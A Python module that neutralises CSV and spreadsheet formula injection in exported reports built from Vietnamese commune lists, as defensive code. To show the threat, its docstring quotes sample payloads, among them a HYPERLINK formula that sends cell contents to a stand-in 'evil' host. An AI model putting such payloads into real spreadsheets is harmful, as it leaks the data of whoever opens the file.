"""Cells written to CSV and XLSX files, neutralised against formula injection.

Why: names, addresses and list file names come from commune lists that anyone may have
edited. A value such as ``=HYPERLINK("http://evil/"&A1,"Bấm")`` or ``@SUM(1+1)*cmd|...``
becomes a live formula when an official opens the report in Excel or LibreOffice
(OWASP "CSV injection"). Every writer of the library goes through this module:

* CSV: a text value starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
  prefixed with a single quote, as OWASP recommends (:func:`csv_value`); quoting of
  separators and quotes is left to :mod:`csv`;
* XLSX: every text value is stored as a string cell (``data_type 's'``), never as a
  formula, whatever it starts with (:func:`xlsx_value`, :func:`xlsx_row`).

Numbers stay numbers: a negative amount is an ``int``, not text, so nothing is prefixed.
A text that is only a number (``"-5"``) or only a dash (the "none" placeholder) cannot
run anything and is left as it is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO, Any

__all__ = [
    "FORMULA_TRIGGERS",
    "csv_row",
    "csv_value",
    "is_formula_like",
    "write_csv_file",
    "xlsx_row",
    "xlsx_text",
    "xlsx_value",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_HARMLESS = re.compile(r"[+-]?\d+(?:[.,]\d+)?|-+")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as the start of a formula."""
    return text.startswith(FORMULA_TRIGGERS) and not _HARMLESS.fullmatch(text)


def csv_value(value: Any) -> Any:
    """One CSV field: ``None`` as empty, a formula-like text behind a single quote."""
    if value is None:
        return ""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def write_csv_file(
    target: Path | IO[str],
    header: Sequence[Any] | None,
    rows: Iterable[Sequence[Any]],
    *,
    encoding: str = "utf-8-sig",
) -> None:
    """Write a header and rows, every field through :func:`csv_value`.

    ``utf-8-sig`` by default: Excel opens a UTF-8 file with a BOM with its Vietnamese intact.
    """

    def go(f: IO[str]) -> None:
        w = csv.writer(f)
        if header is not None:
            w.writerow(csv_row(header))
        for r in rows:
            w.writerow(csv_row(r))

    if isinstance(target, Path):
        target.parent.mkdir(parents=True, exist_ok=True)
        with target.open("w", encoding=encoding, newline="") as f:
            go(f)
    else:
        go(target)


def xlsx_value(ws: Any, value: Any, *, style: Any = None) -> Any:
    """A write-only cell for ``value``: text is always a string cell, never a formula.

    ``style`` is an optional callable given the cell, to set fonts and formats before it is
    appended (write-only sheets take styles only on the cell objects).
    """
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    if style is not None:
        style(cell)
    return cell


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``ws.append`` with every text value as a string cell."""
    return [xlsx_value(ws, v) if isinstance(v, str) else v for v in values]


def xlsx_text(cell: Any) -> Any:
    """Make an ordinary worksheet cell holding text a string cell (undo openpyxl's ``=`` guess)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell
